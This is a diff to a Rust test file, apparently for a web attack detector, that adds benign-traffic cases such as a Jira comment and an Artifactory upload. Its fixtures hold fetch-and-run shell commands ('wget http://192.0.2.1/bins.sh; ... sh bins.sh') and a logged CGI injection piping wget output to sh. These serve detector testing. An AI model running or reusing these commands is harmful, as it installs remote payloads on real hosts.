@@ -28,6 +28,16 @@ fn ordinary_sites_stay_silent() {
     let build = br#"<project><builders><Shell><command>cd /tmp &amp;&amp; wget http://mirror.vendor.example/tool.sh &amp;&amp; sh tool.sh</command></Shell></builders></project>"#;
     let operator = "Authorization: Basic YTpi\r\nJenkins-Crumb: x\r\nContent-Type: application/xml\r\n";
     table.web("a build", NOTHING, None, &with("POST /job/a/config.xml", operator, build), &ok);
+    let comment = br#"{"body":"{code}cd /tmp; wget http://192.0.2.1/bins.sh; chmod 777 bins.sh; sh bins.sh{code}"}"#;
+    table.web("a comment that shows what was run", NOTHING, None, &post("/rest/api/2/issue/7/comment", "application/json", comment), &ok);
+    let script = b"<?php\nrequire 'vendor/autoload.php';\n(new App)->handle($_SERVER['REQUEST_URI']);";
+    table.web(
+        "an artifact",
+        NOTHING,
+        None,
+        &with("PUT /artifactory/a/index.php", "X-JFrog-Art-Api: x\r\n", script),
+        &answer("text/plain", b"ok"),
+    );
     let log = br#"{"streams":[{"values":[["1","192.0.2.9 - - \"GET /cgi-bin/;a=$(wget http://192.0.2.1/a -O-|sh) HTTP/1.1\" 404"]]}]}"#;
     table.web("a log", NOTHING, None, &post("/loki/api/v1/push", "application/json", log), &ok);
     table.web(
